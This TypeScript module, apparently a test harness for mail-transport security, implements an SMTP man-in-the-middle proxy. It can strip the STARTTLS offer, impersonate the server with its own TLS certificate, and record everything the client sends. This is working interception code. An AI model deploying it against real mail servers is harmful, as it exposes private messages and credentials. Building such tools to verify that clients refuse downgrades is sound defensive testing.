import { once } from 'node:events'
import { connect, createServer, type Server, type Socket } from 'node:net'
import { createSecureContext, TLSSocket } from 'node:tls'

/** What somebody between two mail servers does: hides STARTTLS, ends TLS itself with a certificate of his own, or nothing (for servers that cannot have the address themselves). */
export type Attack =
  | { readonly kind: 'none' }
  | { readonly kind: 'strip' }
  | { readonly kind: 'impersonate'; readonly key: string; readonly cert: string }

/** Stands at the address of a mail server and passes everything on to the real one, so that nothing but TLS is missing. */
export class SmtpAttacker implements AsyncDisposable {
  readonly #server: Server
  readonly #sockets = new Set<Socket>()
  /** What went to the real server, as the attacker has read it. */
  heard = ''
  connections = 0

  private constructor(attack: Attack, to: { readonly host: string; readonly port: number }) {
    this.#server = createServer((socket) => {
      this.connections++
      const behind = connect(to.port, to.host)
      for (const one of [socket, behind]) this.#keep(one)
      if (attack.kind === 'impersonate') this.#impersonate(socket, behind, attack)
      else this.#pass(socket, behind, attack.kind === 'strip')
    })
  }

  static async start(
    attack: Attack,
    at: { readonly host: string; readonly port: number },
    to: { readonly host: string; readonly port: number },
  ): Promise<SmtpAttacker> {
    const attacker = new SmtpAttacker(attack, to)
    attacker.#server.listen(at.port, at.host)
    await once(attacker.#server, 'listening')
    return attacker
  }

  async [Symbol.asyncDispose](): Promise<void> {
    for (const socket of this.#sockets) socket.destroy()
    this.#server.close()
    await once(this.#server, 'close')
  }

  #keep(socket: Socket): void {
    this.#sockets.add(socket)
    socket.on('error', () => socket.destroy())
    socket.on('close', () => this.#sockets.delete(socket))
  }

  #pass(socket: Socket, behind: Socket, strips: boolean): void {
    behind.on('data', (chunk: Buffer) => {
      const text = chunk.toString('latin1')
      socket.write(strips ? text.replace('250-STARTTLS\r\n', '') : text, 'latin1')
    })
    this.#listen(socket, behind)
  }

  #impersonate(socket: Socket, behind: Socket, attack: Attack & { kind: 'impersonate' }): void {
    const passUp = (chunk: Buffer) => socket.write(chunk)
    behind.on('data', passUp)
    const onLine = (chunk: Buffer) => {
      if (!/^STARTTLS\r\n$/i.test(chunk.toString('latin1'))) {
        behind.write(chunk)
        return
      }
      socket.off('data', onLine)
      behind.off('data', passUp)
      socket.write('220 go ahead\r\n')
      const secured = new TLSSocket(socket, {
        isServer: true,
        secureContext: createSecureContext({ key: attack.key, cert: attack.cert }),
      })
      this.#keep(secured)
      behind.on('data', (answer: Buffer) => secured.write(answer))
      this.#listen(secured, behind)
    }
    socket.on('data', onLine)
  }

  #listen(from: Socket, behind: Socket): void {
    from.on('data', (chunk: Buffer) => {
      this.heard += chunk.toString('latin1')
      behind.write(chunk)
    })
    from.on('close', () => behind.destroy())
    behind.on('close', () => from.destroy())
  }
}
